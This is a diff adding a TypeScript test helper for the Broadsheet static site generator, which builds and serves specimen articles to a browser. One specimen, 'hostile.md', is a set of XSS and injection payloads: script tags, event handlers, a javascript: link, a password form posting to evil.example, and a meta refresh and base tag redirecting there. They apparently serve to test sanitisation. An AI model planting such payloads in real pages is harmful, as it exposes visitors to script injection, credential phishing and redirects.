@@ -1,0 +1,112 @@
+import { join, resolve } from "node:path";
+import { encode } from "fast-png";
+import { onTestFinished } from "vitest";
+import { build } from "../../../src/build/build.ts";
+import { type Files, temporaryFolder } from "../../support/folder.ts";
+import { listen } from "../../support/listen.ts";
+import { PIXEL } from "../../support/picture.ts";
+import { article, SITE, serve } from "../../support/serve.ts";
+
+/** The content that Broadsheet comes with. */
+const OWN_CONTENT = resolve(import.meta.dirname, "../../../content");
+
+/** What no article of ours has, or not all of it. */
+const SPECIMENS: Files = {
+  "site.md": SITE.replace("title:", "language: en\nicon: dot.png\ntitle:"),
+  "dot.png": PIXEL,
+  "wide.png": encode({ width: 3000, height: 20, data: new Uint8Array(60_000).fill(99), channels: 1 }),
+  "articles/wide.md": article(
+    {
+      title: "Wide things",
+      subtitle: "What does not fit",
+      publish_date: "2026-01-05",
+      tags: "[width, code]",
+    },
+    `A formula:
+
+$$
+${"a + b + c + d + e + f + g + h + ".repeat(4)} z
+$$
+
+\`\`\`js
+${"const longName = anotherLongName; ".repeat(8)}
+\`\`\`
+
+| ${"column | ".repeat(12)}
+|${"---|".repeat(12)}
+| ${"value | ".repeat(12)}
+
+A_very_long_word_${"without_any_place_to_break_".repeat(8)}
+
+<https://gazette.example/${"a-very-long-address/".repeat(10)}>
+
+<figure><img src="../wide.png" alt="A stripe"><figcaption>Wide</figcaption></figure>
+
+<details><summary>More</summary><p>Hidden</p></details>
+
+A note.[^1]
+
+[^1]: At the foot.
+`,
+  ),
+  "articles/arabic.md": article(
+    {
+      title: "خلاصة بلا حساب",
+      subtitle: "لماذا بقي الاشتراك مهذبًا",
+      language: "ar",
+      publish_date: "2026-01-04",
+      tags: "[خلاصات]",
+    },
+    "نص عربي مع `code` وكلمة English.\n\n- أولًا\n- ثانيًا\n\n> اقتباس\n\n| أ | ب |\n|---|---|\n| ١ | ٢ |\n",
+  ),
+  "articles/hostile.md": article(
+    {
+      title: "'<script>window.ran = 1</script>'",
+      subtitle: '\'"><img src=x onerror="window.ran = 1">\'',
+      description: "'<svg onload=\"window.ran = 1\">'",
+      author: "'<b onclick=\"window.ran = 1\">Eve</b>'",
+      tags: "['<i>tag</i>']",
+      cta: "'<script>window.ran = 1</script>'",
+      publish_date: "2026-01-03",
+    },
+    `<script>window.ran = 1</script>
+<img src="../dot.png" onload="window.ran = 1" onerror="window.ran = 1">
+<a href="javascript:window.ran = 1" id="click">click</a>
+<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
+<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>
+<style>body { display: none }</style>
+<p style="position: fixed; inset: 0">over everything</p>
+<form action="https://evil.example/"><input name="password"><button>Send</button></form>
+<meta http-equiv="refresh" content="0; url=https://evil.example/">
+<base href="https://evil.example/">
+`,
+  ),
+  "articles/plain.md": article({ title: "Plain", publish_date: "2026-01-02", author: "Ben" }),
+};
+
+export interface BrowsedSite {
+  /** Without a final slash. */
+  readonly origin: string;
+  /** Sets the clock. */
+  setTime(instant: string): void;
+}
+
+/** Serves a content folder to browsers until the test is over. */
+async function browse(content: string, now: string): Promise<BrowsedSite> {
+  const out = join(temporaryFolder(), "dist");
+  const errors = build({ content, out }).problems.filter(({ severity }) => severity === "error");
+  if (errors.length > 0) throw new Error(JSON.stringify(errors, null, 2));
+  const served = serve(out);
+  served.setTime(now);
+  const { origin, close } = await listen(served, out);
+  onTestFinished(close);
+  return { origin, setTime: served.setTime };
+}
+
+export function browseSpecimens(more: Files = {}): Promise<BrowsedSite> {
+  return browse(temporaryFolder({ ...SPECIMENS, ...more }), "2026-06-01T00:00:00Z");
+}
+
+export function browseOwnContent(): Promise<BrowsedSite> {
+  return browse(OWN_CONTENT, "2026-11-30T00:00:00Z");
+}
